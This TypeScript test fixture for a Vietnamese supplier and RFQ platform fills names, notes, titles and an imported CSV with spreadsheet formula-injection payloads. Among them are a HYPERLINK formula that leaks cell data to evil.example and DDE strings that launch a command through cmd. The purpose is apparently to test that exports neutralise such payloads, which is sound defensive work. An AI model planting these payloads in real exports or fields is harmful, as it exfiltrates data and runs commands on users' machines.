import { duplicateEndpoints, importEndpoints, introductionEndpoints, rfqEndpoints, statementEndpoints, supplierEndpoints, verificationEndpoints } from '@matxich/contracts';
import type { TestApp } from '../harness/test-app';
import type { TestClient } from '../harness/test-client';
import { aFirm, able, housing } from '../rfqs/rfq-samples';
import { aSupplier, announce } from '../search/supplier-rows';
import { csv, upload } from '../suppliers/import-fixtures';

/** What a spreadsheet program would compute, dial out with or run. */
export const hostile = { firm: '=HYPERLINK("http://evil.example/?"&A1,"bấm") Cơ khí', rfq: '@SUM(1+1)*cmd|\' /C calc\'!A0', note: '-2+3+cmd|\' /C calc\'!A0', name: '+84 Người', file: '=cmd.csv' };

export interface Stage {
  supplier: TestClient;
  buyer: TestClient;
  office: TestClient;
  supplierId: string;
  rfqId: string;
  importId: string;
}

async function pair(app: TestApp, office: TestClient, name: string): Promise<{ candidateId: string; one: string; other: string }> {
  const [one, other] = [await aSupplier(app, { name }), await aSupplier(app, { name: `${name} 2` })];
  const { id } = await office.call(duplicateEndpoints.report, { body: { oneId: one, otherId: other } });
  return { candidateId: id, one, other };
}

/** One of everything that stands in a list, each with words that would compute. */
export async function stage(app: TestApp): Promise<Stage> {
  const [supplier, buyer, office] = [await app.as('supplier'), await app.as('buyer', { name: hostile.name }), await app.as('office')];
  for (const client of [supplier, buyer, office]) await app.sql('UPDATE users SET name = $2 WHERE id = $1', [client.ids.userId, hostile.name]);
  const supplierId = await aFirm(app, { name: hostile.firm, organisationId: supplier.ids.organisationId, ...able });
  await app.sql('UPDATE capability_statements SET note = $2 WHERE supplier_id = $1', [supplierId, hostile.note]);
  await announce(app, supplierId);

  const { id: rfqId } = await buyer.call(rfqEndpoints.create, { body: housing({ title: hostile.rfq, deliveryPlace: hostile.note }) });
  await buyer.call(rfqEndpoints.publish, { params: { rfqId } });
  await buyer.call(rfqEndpoints.create, { body: housing({ title: 'Bản nháp' }) });
  await app.settle();
  await office.call(introductionEndpoints.propose, { body: { rfqId, supplierId, note: hostile.note } });

  await supplier.call(verificationEndpoints.request, { body: { subject: 'firm', subjectId: supplierId, note: hostile.note } });
  await office.call(verificationEndpoints.check, { params: { supplierId }, body: { subject: 'firm', subjectId: supplierId, level: 'site_visited', note: hostile.note } });
  const [statement] = await app.sql<{ id: string }>('SELECT id FROM capability_statements WHERE supplier_id = $1', [supplierId]);
  await supplier.call(verificationEndpoints.request, { body: { subject: 'statement', subjectId: statement!.id, note: hostile.note } });
  await supplier.call(statementEndpoints.confirm, { body: { items: [{ statementId: statement!.id, version: 1 }] } });

  const claimant = await app.as('supplier', { name: hostile.name });
  await claimant.call(supplierEndpoints.claim, { body: { supplierId: await aSupplier(app, { name: hostile.firm }), note: hostile.note } });
  await pair(app, office, hostile.firm);
  const dismissed = await pair(app, office, 'Cơ khí Khác');
  await office.call(duplicateEndpoints.dismiss, { params: { candidateId: dismissed.candidateId }, body: { note: hostile.note } });
  const merged = await pair(app, office, `${hostile.firm} gộp`);
  await office.call(duplicateEndpoints.merge, { params: { candidateId: merged.candidateId }, body: { survivorId: merged.one, survivorVersion: 1, mergedVersion: 1, note: hostile.note } });

  const report = await upload(office, csv('company_name,address,tax_code', 'Công ty Nhập,"=A1, Hà Nội",', 'Công ty Sai,Hà Nội,0100233480'), hostile.file);
  await office.call(importEndpoints.commit, { params: { importId: report.body.id }, body: {} });
  await app.settle();
  return { supplier, buyer, office, supplierId, rfqId, importId: report.body.id };
}
